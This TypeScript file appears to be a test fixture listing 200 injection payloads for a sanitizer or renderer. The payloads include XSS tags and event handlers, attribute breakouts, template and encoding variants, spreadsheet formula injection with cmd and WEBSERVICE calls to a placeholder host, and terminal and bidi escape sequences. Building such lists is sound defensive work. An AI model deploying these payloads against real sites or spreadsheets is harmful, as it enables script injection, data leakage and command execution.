/** What a page calls when something written into it was run. */
export const HIT = "hit()";
/** An address that a page asks for when something written into it was followed. */
const AWAY = "http://hostile.test/x";

/** Elements that run something or ask for something, whole or cut open. */
const ELEMENTS = [
	`<script>${HIT}</script>`,
	`</script><script>${HIT}</script>`,
	`<ScRiPt>${HIT}</sCrIpT>`,
	`<script src=${AWAY}.js></script>`,
	`<img src=x onerror=${HIT}>`,
	`<img src="${AWAY}.png">`,
	`<img src=x onerror="${HIT}" `,
	`<svg onload=${HIT}>`,
	`<svg/onload=${HIT}>`,
	`<svg><script>${HIT}</script></svg>`,
	`<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
	`<svg><set attributeName=href to=javascript:${HIT}>`,
	`<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`,
	`<svg><use href="${AWAY}.svg#a"/></svg>`,
	`<svg><image href="${AWAY}.png"/></svg>`,
	`<svg><a xlink:href="javascript:${HIT}"><text y=9>a</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
	`<math href="javascript:${HIT}">a</math>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=${HIT}>`,
	`<iframe src="javascript:${HIT}"></iframe>`,
	`<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
	`<object data="${AWAY}.swf"></object>`,
	`<embed src="${AWAY}.swf">`,
	`<video src=x onerror=${HIT}></video>`,
	`<video poster="${AWAY}.png"></video>`,
	`<audio src="${AWAY}.mp3" autoplay></audio>`,
	`<body onload=${HIT}>`,
	`<details open ontoggle=${HIT}><summary>a</summary></details>`,
	`<input autofocus onfocus=${HIT}>`,
	`<select autofocus onfocus=${HIT}><option>a</select>`,
	`<marquee onstart=${HIT}>a</marquee>`,
	`<link rel=stylesheet href="${AWAY}.css">`,
	`<link rel=preload as=image href="${AWAY}.png">`,
	`<style>@import "${AWAY}.css";</style>`,
	`<style>*{background:url(${AWAY}.png)}</style>`,
	`</style><img src=x onerror=${HIT}>`,
	`<base href="${AWAY}/">`,
	`<meta http-equiv=refresh content="0;url=${AWAY}">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<form action="${AWAY}"><button autofocus>a</button></form>`,
	`<a href="javascript:${HIT}">a</a>`,
	`<a ping="${AWAY}" href="#">a</a>`,
	`<template><script>${HIT}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
	`<!--><img src=x onerror=${HIT}>-->`,
	`<![CDATA[><script>${HIT}</script>]]>`,
	`<?xml version="1.0"?><script>${HIT}</script>`,
	`<!DOCTYPE html [<!ENTITY x SYSTEM "${AWAY}">]>&x;`,
	`<xss id=x tabindex=1 onfocus=${HIT} autofocus>`,
	`<p style="background:url(${AWAY}.png)">a`,
	`<p style="animation:x" onanimationstart=${HIT}>a`,
	`<table background="${AWAY}.png"><tr><td>a`,
];

/** Ways out of an attribute, a title, a description, a comment, a table. */
const BREAKS = ['"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</desc>"];
const BROKEN = BREAKS.flatMap((way) => [
	`${way}<img src=x onerror=${HIT}>`,
	`${way} onmouseover=${HIT} autofocus onfocus=${HIT} x=`,
	`${way}<script>${HIT}</script>`,
	`${way}/><svg onload=${HIT}>`,
]);

/** Addresses, templates, entities and styles that mean something elsewhere. */
const WORDS = [
	`javascript:${HIT}`,
	`java\tscript:${HIT}`,
	`JaVaScRiPt:${HIT}`,
	`vbscript:${HIT}`,
	`data:text/html,<script>${HIT}</script>`,
	`data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
	`{{constructor.constructor("${HIT}")()}}`,
	`\${${HIT}}`,
	`#{${HIT}}`,
	`<%= ${HIT} %>`,
	`{%raw%}${HIT}`,
	`[[${HIT}]]`,
	`&lt;script&gt;${HIT}&lt;/script&gt;`,
	`&#60;script&#62;${HIT}&#60;/script&#62;`,
	`&#x3c;img src=x onerror=${HIT}&#x3e;`,
	`%3Cscript%3E${HIT}%3C/script%3E`,
	`\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
	`\\";${HIT};//`,
	`';${HIT};'`,
	`*/${HIT};/*`,
	`}*{background:url(${AWAY}.png)}`,
	`expression(${HIT})`,
	`url(${AWAY}.png)`,
	`@import url(${AWAY}.css);`,
	`behavior:url(${AWAY})`,
	`<\u2028script>${HIT}</script>`,
	`a\u2028b\u2029${HIT}`,
	`<\u0000script>${HIT}</script>`,
	`＜script＞${HIT}＜/script＞`,
	`<scr\u0000ipt>${HIT}</scr\u0000ipt>`,
	`\ufeff<script>${HIT}</script>`,
	`\ud800<script>${HIT}</script>`,
	`__proto__`,
	`constructor`,
	`datum.x && ${HIT}`,
	`{"signal": "${HIT}"}`,
];

/** Cells that a spreadsheet would take for a formula. */
const FORMULAS = ["=", "+", "-", "@", "\t=", "\r="].flatMap((sign) => [
	`${sign}cmd|'/c calc'!A1`,
	`${sign}HYPERLINK("${AWAY}","a")`,
	`${sign}1+1`,
	`${sign}IMPORTXML("${AWAY}","//a")`,
	`${sign}WEBSERVICE("${AWAY}")`,
]);

/** What moves the cursor of a terminal, or turns a line around. */
const ESCAPES = [
	"\u001b[2J",
	"\u001b[31mred",
	"\u001b]0;title\u0007",
	`\u001b]8;;${AWAY}\u0007a\u001b]8;;\u0007`,
	"\u001bc",
	"\u009b31mred",
	"\u0007",
	"\b\b\b\b",
	"a\rb",
	"\u202eevil",
	"\u202dforth",
	"\u2066a\u2069",
	"\u2067b\u2069",
	"\u200fc",
	"\u200ed",
	"\u061ce",
];

const plain = [...ELEMENTS, ...BROKEN, ...WORDS, ...FORMULAS, ...ESCAPES];

const loud = ELEMENTS.map((one) => one.toUpperCase().replaceAll("HIT()", HIT));

/** Two hundred strings, each of which would do harm somewhere. */
export const HOSTILE: readonly string[] = [
	...new Set([...plain, ...loud]),
].slice(0, 200);
